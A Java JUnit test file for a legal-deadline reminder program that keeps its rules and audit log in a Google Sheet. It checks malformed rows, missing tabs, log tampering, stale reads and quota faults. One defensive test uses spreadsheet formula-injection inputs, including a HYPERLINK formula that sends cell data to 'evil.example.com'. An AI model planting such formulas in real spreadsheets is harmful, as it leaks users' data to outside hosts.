package dev.clioremind;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import com.google.gson.JsonElement;
import com.google.gson.JsonObject;
import com.google.gson.JsonParser;
import dev.clioremind.Office.Result;
import dev.clioremind.core.ExitCode;
import dev.clioremind.sandbox.CallObserver;
import dev.clioremind.sandbox.ReceivedCall;
import dev.clioremind.sandbox.Reply;
import dev.clioremind.sandbox.SheetsStandIn;
import dev.clioremind.sandbox.ghl.GhlMessage;
import dev.clioremind.sandbox.sheets.SheetBook;
import dev.clioremind.sandbox.sheets.SheetsFaults;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.function.Consumer;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What people and Google can do to the spreadsheet, through the whole program and judged by what
 * clients received.
 */
@Timeout(120)
class SheetFaultsTest {

  private static final String RULES = "ReminderRules";
  private static final String LOG = "AuditLog";

  @TempDir private Path folder = Path.of(".");
  private Office office = new Office(Path.of("."));

  @BeforeEach
  void open() {
    office.close();
    office = new Office(folder);
  }

  @AfterEach
  void close() {
    assertThat(office.sandbox().ledger().defects()).isEmpty();
    assertThat(office.sandbox().ghl().forbiddenCalls()).isEmpty();
    office.close();
  }

  private SheetBook book() {
    return office.sandbox().book();
  }

  private List<GhlMessage> received() {
    return office.sandbox().ghl().messages();
  }

  private static int code(ExitCode code) {
    return code.number();
  }

  private static String flat(String text) {
    return text.replaceAll("\\s+", " ");
  }

  private void assertNobodyTwice() {
    assertThat(
            received().stream()
                .collect(
                    Collectors.groupingBy(m -> m.contactId() + m.content(), Collectors.counting()))
                .values())
        .allMatch(count -> count == 1);
  }

  /** The rules are these rows and no others. */
  private void rules(List<List<String>> rows) {
    book().deleteRows(RULES, 2, 12);
    book().typeRows(RULES, rows);
  }

  /** What is decided about each reminder. */
  private static Map<String, String> decisions(Result result) {
    Map<String, String> decisions = new TreeMap<>();
    for (JsonElement one :
        JsonParser.parseString(result.out()).getAsJsonObject().getAsJsonArray("reminders")) {
      JsonObject reminder = one.getAsJsonObject();
      decisions.merge(
          reminder.get("hash").getAsString(),
          reminder.get("decision") + " " + reminder.get("reason"),
          (a, b) -> a + b);
    }
    return decisions;
  }

  // The rules

  @ParameterizedTest
  @CsvSource({
    "#REF!, is an error of the spreadsheet",
    "=1/0, is an error of the spreadsheet",
    "three days, is not a number of days",
    "2026-11-24, is the cell formatted as a date?"
  })
  @Survives({"26a", "26b", "26c"})
  void a_row_with_a_wrong_number_of_days_is_refused_and_the_others_run(String typed, String why) {
    rules(
        List.of(
            List.of("Court Date", typed, "Email", "court_email"),
            List.of("Court Date", "3", "SMS", "court_sms"),
            List.of("Deposition", "3", "SMS", "deposition_sms")));

    Result result = office.run("send");

    assertThat(result.code()).isEqualTo(code(ExitCode.NEEDS_PERSON));
    assertThat(flat(result.out())).contains("ReminderRules row 2, DaysOut").contains(why);
    assertThat(received()).hasSizeGreaterThan(1).allMatch(m -> m.channel().equals("SMS"));
    assertThat(office.later(Duration.ofHours(1)).run("send").code())
        .as("as long as the row stands")
        .isEqualTo(code(ExitCode.NEEDS_PERSON));
  }

  @Test
  @Survives({"27a", "27b", "27c"})
  void rows_that_are_blank_ragged_or_merged_are_read_as_they_stand() {
    rules(
        List.of(
            List.of(),
            List.of("", " ", ""),
            List.of("Court Date", "3", "SMS", "court_sms"),
            // Merged with the cell above it, as people see it; for a program it is blank.
            List.of("", "7", "SMS", "court_sms"),
            List.of("Deposition", "3", "SMS")));

    Result result = office.run("send");

    assertThat(result.code()).isEqualTo(code(ExitCode.NEEDS_PERSON));
    assertThat(flat(result.out()))
        .contains("ReminderRules row 5, Deadline Type")
        .contains("ReminderRules row 6, TemplateID")
        .doesNotContain("ReminderRules row 2", "ReminderRules row 3", "ReminderRules row 4");
    assertThat(received()).isNotEmpty().allMatch(m -> m.content().contains("in 3 days"));
  }

  @Test
  @Survives("28")
  void two_rules_with_one_name_are_both_refused_and_the_others_run() {
    rules(
        List.of(
            List.of("Court Date", "3", "SMS", "court_sms", "first-word"),
            List.of("Court Date", "7", "Email", "court_email", "first-word"),
            List.of("Mediation", "7", "Email", "Mediation mail", "other")));
    String mine = office.deadline("Mediation", 7);

    Result result = office.run("send");

    assertThat(result.code()).isEqualTo(code(ExitCode.NEEDS_PERSON));
    assertThat(flat(result.out()))
        .contains("ReminderRules row 2 and row 3: both have the RuleID first-word");
    assertThat(received()).isNotEmpty();
    assertThat(book().rows(LOG).stream().filter(row -> row.get(4).equals("success")))
        .allMatch(row -> row.get(2).equals(mine));
  }

  @Test
  @Survives("29")
  void columns_that_were_moved_are_found_by_their_headers() {
    reverseColumns(RULES);
    reverseColumns("Templates");
    reverseColumns(LOG);
    int expected;
    try (Office untouched = new Office(folder)) {
      untouched.runOn(folder.resolve("other"), "send");
      expected = untouched.sandbox().ghl().accepted();
    }

    office.run("send");

    assertThat(received()).hasSize(expected);
    int columns = book().rows(LOG).get(0).size();
    assertThat(book().rows(LOG).stream().skip(1).map(row -> row.get(columns - 5)).distinct())
        .contains("claimed", "sending", "success");

    // And between two runs.
    book().insertColumns(LOG, 1, 1).type(LOG, "A1", "Notes of ours");
    office.later(Duration.ofHours(1)).run("send");
    assertThat(received()).hasSize(expected);
  }

  /** Writes a tab anew, its columns from right to left. */
  private void reverseColumns(String tab) {
    List<List<String>> rows = book().rows(tab);
    int width = rows.stream().mapToInt(List::size).max().orElseThrow();
    List<List<String>> reversed = new ArrayList<>();
    for (List<String> row : rows) {
      List<String> cells = new ArrayList<>(row);
      while (cells.size() < width) {
        cells.add("");
      }
      Collections.reverse(cells);
      reversed.add(cells);
    }
    book().clear(tab);
    book().typeRows(tab, reversed);
  }

  // What is missing

  static Stream<Arguments> missing() {
    return Stream.of(
        arguments(
            "a header of the rules renamed",
            change(book -> book.renameHeader(RULES, "DaysOut", "Days Before")),
            "has no header 'DaysOut'",
            "Write 'DaysOut'"),
        arguments(
            "a header of the log gone",
            change(book -> book.type(LOG, "G1", "")),
            "has no header 'EventID'",
            "Write 'EventID'"),
        arguments(
            "a header of the log renamed",
            change(book -> book.renameHeader(LOG, "EventID", "Event-ID")),
            "has no header 'EventID'",
            "Rename it to 'EventID'"),
        arguments(
            "the rules gone",
            change(book -> book.deleteTab(RULES)),
            "has no tab 'ReminderRules'",
            "clio-remind init"),
        arguments(
            "the log renamed",
            change(book -> book.renameTab(LOG, "Audit Log (old)")),
            "has no tab 'AuditLog'",
            "'Audit Log (old)'"),
        arguments(
            "the templates without a header",
            change(book -> book.renameHeader("Templates", "Body", "Text")),
            "has no header 'Body'",
            "Write 'Body'"),
        arguments(
            "not shared",
            change(book -> book.unshare(SheetsStandIn.SERVICE_ACCOUNT)),
            "is not shared with",
            "add " + SheetsStandIn.SERVICE_ACCOUNT));
  }

  private static Consumer<SheetBook> change(Consumer<SheetBook> change) {
    return change;
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("missing")
  @Survives({"30a", "30b", "30c"})
  void what_is_missing_stops_the_run_and_is_told_with_what_to_do(
      String name, Consumer<SheetBook> change, String what, String fix) {
    change.accept(book());

    Result result = office.run("send");

    assertThat(result.code()).as(result.err()).isEqualTo(code(ExitCode.CONFIGURATION));
    assertThat(result.err()).contains(what).contains(fix);
    assertThat(received()).isEmpty();
  }

  @Test
  @Survives("30d")
  void a_spreadsheet_that_is_not_there_is_told_with_what_to_do() {
    Result result =
        office
            .without("sheets.spreadsheet-id")
            .with("sheets.spreadsheet-id = 1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdef")
            .run("send");

    assertThat(result.code()).isEqualTo(code(ExitCode.CONFIGURATION));
    assertThat(result.err()).contains("no spreadsheet").contains("sheets.spreadsheet-id");
    assertThat(received()).isEmpty();
  }

  // The log

  @ParameterizedTest
  @ValueSource(ints = {1, 2, 3, 5, 7})
  @Survives("32")
  void a_log_that_a_person_sorted_leads_to_the_same_decisions(int column) {
    fillLogWithOldRows();
    office.run("send");
    int sent = received().size();
    Map<String, String> before = decisions(office.run("send", "--dry-run", "--format", "json"));

    book().sort(LOG, column, column % 2 == 0);

    Result sorted = office.run("send", "--dry-run", "--format", "json");
    assertThat(decisions(sorted)).isEqualTo(before);
    office.later(Duration.ofMinutes(1)).run("send");
    assertThat(received()).hasSize(sent);
  }

  /** So many rows of the last years that a run reads the end of the log alone. */
  private void fillLogWithOldRows() {
    Random chance = new Random(5);
    book().resize(LOG, 2_500, 11);
    book()
        .addTextRows(
            LOG,
            IntStream.range(0, 2_000)
                .mapToObj(
                    i ->
                        List.of(
                            hash(chance),
                            Instant.parse("2024-01-01T15:00:00Z")
                                .plus(Duration.ofHours(10L * i))
                                .toString(),
                            "entry-" + (500_000 + i),
                            "SMS-3d",
                            "success",
                            "-",
                            "20240101T150000Z-0001.%s.success".formatted(i + 1),
                            "ms" + i,
                            hash(chance),
                            "2024-01-04",
                            "court_sms"))
                .toList());
  }

  private static String hash(Random chance) {
    byte[] bytes = new byte[32];
    chance.nextBytes(bytes);
    return HexFormat.of().formatHex(bytes);
  }

  @ParameterizedTest
  @ValueSource(strings = {"all rows", "the last row", "a row in the middle", "the tab anew"})
  @Survives({"33a", "33b"})
  void a_log_that_lost_rows_sends_nothing_and_says_how_to_recover(String lost) {
    office.run("send");
    int sent = received().size();
    int rows = book().rows(LOG).size();
    switch (lost) {
      case "all rows" -> book().deleteRows(LOG, 2, rows - 1);
      case "the last row" -> book().deleteRows(LOG, rows, 1);
      case "a row in the middle" -> book().deleteRows(LOG, rows / 2, 1);
      default -> {
        List<String> header = book().rows(LOG).get(0);
        book().deleteTab(LOG).addTab(LOG, List.of(header));
      }
    }

    Result result = office.later(Duration.ofHours(1)).run("send");

    assertThat(result.code()).isEqualTo(code(ExitCode.CONFIGURATION));
    assertThat(result.err()).contains("AuditLog").contains("Version history", "audit accept");
    assertThat(received()).hasSize(sent);
  }

  @Test
  @Survives("35a")
  void rows_that_landed_at_the_top_are_written_again_and_the_run_goes_on() {
    office.run("send", "--deadline", office.deadline("Court Date", 3));
    office.sandbox().sheets().faults().misplaceAppends(1);

    office.later(Duration.ofHours(1)).run("send");

    assertThat(received()).hasSizeGreaterThan(10);
    assertNobodyTwice();
  }

  @Test
  @Survives("35b")
  void rows_that_land_at_the_top_twice_stop_the_run_before_it_sends() {
    office.run("send", "--deadline", office.deadline("Court Date", 3));
    int sent = received().size();
    office.sandbox().sheets().faults().misplaceAppends(2);

    Result result = office.later(Duration.ofHours(1)).run("send");

    assertThat(result.code()).isEqualTo(code(ExitCode.CONFIGURATION));
    assertThat(result.err()).contains("in the wrong place, twice");
    assertThat(received()).hasSize(sent);
  }

  @ParameterizedTest
  @ValueSource(ints = {500, 1_000, 1_900})
  @Survives("36")
  void reads_that_lag_less_than_the_settle_time_let_no_second_run_send(int millis) {
    rules(List.of(List.of("Court Date", "3", "SMS", "court_sms")));
    office.sandbox().sheets().faults().staleReads(Duration.ofMillis(millis));
    // Another machine's whole run takes place when the first has claimed, and its claims do not
    // show yet.
    office
        .sandbox()
        .observe(
            new CallObserver() {
              private boolean begun;

              @Override
              public void afterCall(ReceivedCall call, Reply reply) {
                if (!begun && call.path().contains(LOG) && call.path().endsWith(":append")) {
                  begun = true;
                  office.runOn(folder.resolve("elsewhere"), "send");
                }
              }
            });

    office.run("send");

    assertThat(received()).as("one of the two sees that it is alone").isNotEmpty();
    office.sandbox().observe(CallObserver.NONE);
    office.sandbox().sheets().faults().heal();
    office.later(Duration.ofHours(1)).run("send");
    assertNobodyTwice();
  }

  @Test
  @Survives("37")
  void a_quota_that_is_used_up_is_waited_for() {
    SheetsFaults faults = office.sandbox().sheets().faults();
    faults.failBefore(SheetsFaults.valueReads(), 2, SheetsFaults.quotaExceeded(true));
    faults.failBefore(SheetsFaults.appends(), 3, SheetsFaults.quotaExceeded(false));
    var begun = office.now();

    office.run("send");

    assertThat(received()).hasSizeGreaterThan(10);
    assertThat(Duration.between(begun, office.now())).isGreaterThan(Duration.ofMinutes(1));
    assertNobodyTwice();
  }

  // What a spreadsheet would run

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"https://evil.example.com/?\"&A1,\"x\")",
        "+1",
        "@x",
        "-1",
        "'quoted",
        "=1+1"
      })
  @Survives("38a")
  void what_a_spreadsheet_would_run_stands_in_it_as_text(String name) {
    office.firm().clio().addEventType(99, name);
    office.firm().clio().changeEntry(1205, entry -> entry.ofType(99));
    book().deleteRows(RULES, 2, 12);
    book().addTextRows(RULES, List.of(List.of(name, "3", "SMS", "court_sms", name + "-rule")));

    office.run("plan");
    office.run("send");

    assertThat(book().rows("Upcoming").stream().skip(2).map(row -> row.get(1)))
        .isNotEmpty()
        .contains(name);
    assertThat(book().rows(LOG).stream().skip(1).map(row -> row.get(3)))
        .isNotEmpty()
        .containsOnly(name + "-rule");
    // The next run reads what it wrote.
    int sent = received().size();
    assertThat(sent).isEqualTo(1);
    office.later(Duration.ofHours(1)).run("send");
    assertThat(received()).hasSize(sent);
  }
}
